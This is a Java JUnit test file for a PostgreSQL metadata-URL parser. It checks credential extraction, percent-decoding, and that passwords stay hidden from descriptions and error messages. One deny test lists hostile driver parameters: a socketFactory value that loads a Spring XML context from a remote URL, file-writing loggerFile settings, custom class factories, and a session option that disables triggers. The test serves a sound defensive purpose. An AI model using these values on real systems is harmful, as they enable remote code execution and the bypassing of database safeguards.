package io.cosd.store.meta.jdbc;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** {@code --metadata-url} forms (docs/scale-out.md "Interface"): the JDBC URL, the credentials apart, and a description without the password. */
class PostgresUrlTest {
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', nullValues = "-", textBlock = """
            postgresql://db.example:5432/cosd?user=cosd&password=s3cr%40t  | jdbc:postgresql://db.example:5432/cosd              | cosd | s3cr@t | postgresql://db.example:5432/cosd as cosd
            postgres://cosd:s3cr%40t@db.example/cosd?sslmode=require        | jdbc:postgresql://db.example/cosd?sslmode=require    | cosd | s3cr@t | postgresql://db.example/cosd as cosd
            jdbc:postgresql://10.0.0.5:6432/meta?user=u&password=pw-3x&ssl=true | jdbc:postgresql://10.0.0.5:6432/meta?ssl=true    | u    | pw-3x  | postgresql://10.0.0.5:6432/meta as u
            postgresql://localhost/cosd                                     | jdbc:postgresql://localhost/cosd                     | -    | -      | postgresql://localhost/cosd
            """)
    void eachFormGivesTheDriverUrlAndCredentialsApartAndADescriptionWithoutThePassword(String url, String jdbc, String user, String password,
                                                                                      String shown) {
        PostgresUrl u = PostgresUrl.parse(url);
        assertThat(u.jdbcUrl()).isEqualTo(jdbc);
        assertThat(u.user()).isEqualTo(user);
        assertThat(u.password()).isEqualTo(password);
        assertThat(u.describe()).isEqualTo(shown);
        assertThat(u.toString()).isEqualTo(shown);
        if (password != null) assertThat(u.jdbcUrl() + u.describe()).doesNotContain(password).doesNotContain("password");
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            mysql://h/db?password=hunter2  | must start with postgresql://
            postgresql://h                 | needs a host and a database
            postgresql://h/                | needs a host and a database
            postgresql:///db               | needs a host and a database
            """)
    void otherFormsAreRefusedNamingWhatIsWrongButNeverThePassword(String url, String message) {
        assertThatThrownBy(() -> PostgresUrl.parse(url)).isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining(message).hasMessageNotContaining("hunter2");
    }

    /**
     * ST-P2: pgjdbc instantiates classes named by some properties (socketFactory, sslfactory, …),
     * writes files named by others (loggerFile) and lets others change what the database does for this
     * session ({@code options=-c session_replication_role=replica} turns triggers off, {@code
     * readOnlyMode=ignore} makes the read pool writable). A URL parameter cosd does not list is
     * refused, naming the parameter but never its value.
     */
    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://hunter2/x.xml",
            "sslfactory=com.example.Hunter2", "sslhostnameverifier=com.example.Hunter2", "sslpasswordcallback=com.example.Hunter2",
            "authenticationPluginClassName=com.example.Hunter2", "loggerFile=/tmp/hunter2.log", "loggerLevel=TRACE",
            "xmlFactoryFactory=com.example.Hunter2", "readOnlyMode=ignore", "options=-c%20session_replication_role%3Dreplica%20hunter2",
            "service=hunter2", "preferQueryMode=simple", "autosave=always", "replication=database", "stringtype=unspecified",
            "connectExecutor=com.example.Hunter2", "SocketFactory=hunter2", "sslmod=hunter2"})
    void aDriverPropertyThatLoadsCodeWritesFilesOrChangesWhatTheDatabaseDoesIsRefused_ST_P2(String query) {
        String name = query.substring(0, query.indexOf('='));
        boolean known = org.postgresql.PGProperty.forName(name) != null;
        for (String prefix : new String[] {"postgresql://u:pw@db.example/cosd?", "jdbc:postgresql://db.example/cosd?user=u&"}) {
            assertThatThrownBy(() -> PostgresUrl.parse(prefix + query)).isInstanceOf(IllegalArgumentException.class)
                    .hasMessageContaining(known ? "'" + name + "'" : "does not know").hasMessageNotContaining("hunter2").hasMessageNotContaining("pw");
        }
    }

    /** ST-P2: a password with an unescaped & is cut there; its tail, taken for a parameter name, is never shown. */
    @Test
    void theTailOfAPasswordCutAtAnUnescapedAmpersandIsNeverShown_ST_P2() {
        assertThatThrownBy(() -> PostgresUrl.parse("postgresql://db.example/cosd?user=u&password=abc&hunter2tail"))
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("%26").hasMessageNotContaining("hunter2tail");
    }

    @Test
    void theDriverSettingsADeploymentNeedsGoToTheDriver_ST_P2() {
        String q = "sslmode=verify-full&sslrootcert=/etc/cosd/ca.pem&sslcert=/etc/cosd/c.pem&sslkey=/etc/cosd/c.pk8&connectTimeout=5"
                + "&socketTimeout=60&tcpKeepAlive=true&targetServerType=primary&loadBalanceHosts=false&currentSchema=cosd&ApplicationName=n1";
        PostgresUrl u = PostgresUrl.parse("postgresql://h1:5432,h2:5432/cosd?" + q);
        assertThat(u.jdbcUrl()).isEqualTo("jdbc:postgresql://h1:5432,h2:5432/cosd?" + q);
    }

    /**
     * ST-P3: libpq's URI form decodes only {@code %XX} (RFC 3986): a {@code +} in a generated
     * password is a plus, not a space; {@code @} and {@code /} may be written as they are in the
     * password; an IPv6 host stays bracketed.
     */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', nullValues = "-", textBlock = """
            postgresql://cosd:a+b%2Fc=@db.example/cosd               | jdbc:postgresql://db.example/cosd | cosd | a+b/c=
            postgresql://db.example/cosd?user=cosd&password=a+b%2Bc  | jdbc:postgresql://db.example/cosd | cosd | a+b+c
            postgresql://cosd:p@ss/w@rd@db.example/cosd              | jdbc:postgresql://db.example/cosd | cosd | p@ss/w@rd
            postgresql://cosd:pw@[::1]:5432/cosd                     | jdbc:postgresql://[::1]:5432/cosd | cosd | pw
            jdbc:postgresql://db.example/cosd?user=cosd&password=a+b | jdbc:postgresql://db.example/cosd | cosd | a b
            postgresql://db.example/cosd?sslrootcert=/etc/c+a.pem    | jdbc:postgresql://db.example/cosd?sslrootcert=/etc/c%2Ba.pem | - | -
            """)
    void passwordsDecodeAsTheirUrlFormSaysAndIpv6HostsStayBracketed_ST_P3(String url, String jdbc, String user, String password) {
        PostgresUrl u = PostgresUrl.parse(url);
        assertThat(u.jdbcUrl()).isEqualTo(jdbc);
        assertThat(u.user()).isEqualTo(user);
        assertThat(u.password()).isEqualTo(password);
    }

    /** ST-P3: a malformed escape is refused without quoting any of the text around it. */
    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"postgresql://cosd:hu%zzter2@db.example/cosd", "postgresql://cosd:hunter2%4@db.example/cosd",
            "postgresql://db.example/cosd?user=cosd&password=hu%zzter2", "jdbc:postgresql://db.example/cosd?password=hu%zzter2"})
    void aMalformedPercentEscapeIsRefusedWithoutQuotingThePassword_ST_P3(String url) {
        assertThatThrownBy(() -> PostgresUrl.parse(url)).isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("percent").hasMessageNotContaining("zz").hasMessageNotContaining("hu").hasMessageNotContaining("%4");
    }
}
